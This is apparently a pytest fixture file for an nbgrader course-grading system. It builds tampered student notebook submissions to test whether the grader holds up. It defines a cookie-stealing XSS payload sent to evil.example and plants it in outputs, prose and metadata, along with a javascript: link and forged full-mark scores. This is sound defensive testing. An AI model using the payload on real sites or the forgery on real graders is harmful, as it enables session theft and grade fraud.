"""A course in a temporary folder, and the notebooks that a class hands in."""

import json
import shutil
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

PROJECT = Path(__file__).parents[2]
HERE = Path(__file__).parent
MUTANTS = PROJECT / "grading/mutants/url_shortener/redirect_cache"
NOTEBOOK = "04-detailed-design.ipynb"
SLOT_LINE = "%%component url-shortener/redirect-cache\n"
SCRIPT = "<script>fetch('https://evil.example/' + document.cookie)</script>"

Tree = dict[str, Any]


def component_text(name: str) -> str:
    if name == "reference":
        return (PROJECT / "reference/shortener/redirect_cache.py").read_text("utf-8")
    if name == "logs_appended.txt":
        return component_text("reference") + (HERE / "components" / name).read_text("utf-8")
    return (MUTANTS if name.startswith("wrong/") else HERE / "components").joinpath(name).read_text("utf-8")


def by_id(tree: Tree, grade_id: str) -> Tree:
    return next(c for c in tree["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def forged_outputs(tree: Tree) -> None:
    """Full marks and a script in the outputs of the test cell, a script in prose and in a name."""
    result = {"output_type": "execute_result", "execution_count": 1, "metadata": {}}
    by_id(tree, "redirect-cache-check")["outputs"] = [
        result | {"data": {"text/plain": "20"}},
        {
            "output_type": "display_data",
            "metadata": {"workbench": {"points": {"answers": 20}}},
            "data": {"text/plain": "20 of 20", "text/html": SCRIPT},
        },
    ]
    by_id(tree, "redirect-cache")["outputs"] = [result | {"data": {"text/html": SCRIPT}}]
    by_id(tree, "redirect-cache")["source"] += f"\n# {SCRIPT}"
    prose = {
        "cell_type": "markdown",
        "id": "prose",
        "metadata": {},
        "source": f"{SCRIPT} [x](javascript:alert(1))",
    }
    tree["cells"].insert(0, prose)
    tree["metadata"] |= {"title": SCRIPT, "workbench": {"mended": [SCRIPT], "unusable": {}}}


def raised_points(tree: Tree) -> None:
    by_id(tree, "redirect-cache-check")["metadata"]["nbgrader"] |= {
        "points": 2000,
        "schema_version": 99,
        "locked": False,
    }
    by_id(tree, "redirect-cache-check")["source"] = "20"


TAMPERING: dict[str, Callable[[Tree], None]] = {
    "forged-outputs": forged_outputs,
    "raised-points": raised_points,
    "deleted-solution": lambda tree: tree["cells"].remove(by_id(tree, "redirect-cache")),
    "copied-solution": lambda tree: tree["cells"].append(by_id(tree, "redirect-cache") | {"id": "copy"}),
    "deleted-test": lambda tree: tree["cells"].remove(by_id(tree, "redirect-cache-check")),
}


def write_submission(released: Path, folder: Path, component: str, tampered: str = "") -> None:
    """Writes what a learner hands in to `folder`, from the released notebook."""
    folder.mkdir(parents=True)
    if tampered == "no-file":
        (folder / "essay.txt").write_text("I ran out of time.")
        return
    tree = json.loads(released.read_text("utf-8"))
    if component:
        by_id(tree, "redirect-cache")["source"] = SLOT_LINE + component_text(component)
    if tampered in TAMPERING:
        TAMPERING[tampered](tree)
    text = {"zero-bytes": "", "not-json": component_text("textbook.py")}.get(tampered, json.dumps(tree))
    (folder / NOTEBOOK).write_text(text, "utf-8")


@pytest.fixture(scope="session")
def expected() -> dict[str, dict[str, Any]]:
    return tomllib.loads((HERE / "expected.toml").read_text("utf-8"))


@pytest.fixture(scope="session")
def hand_in() -> Callable[..., None]:
    return write_submission


@pytest.fixture(scope="session")
def new_course(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], Path]:
    """Makes a course root that holds the project's own source notebook."""

    def make(name: str) -> Path:
        root = tmp_path_factory.mktemp(name)
        source = root / "grading/source/url-shortener"
        source.mkdir(parents=True)
        shutil.copy(PROJECT / "grading/source/url-shortener" / NOTEBOOK, source)
        (root / "nbgrader_config.py").write_text(
            "from pathlib import Path\n"
            "from grading.nbgrader.config import configure\n"
            "configure(get_config(), Path(__file__).parent)\n"
        )
        return root

    return make
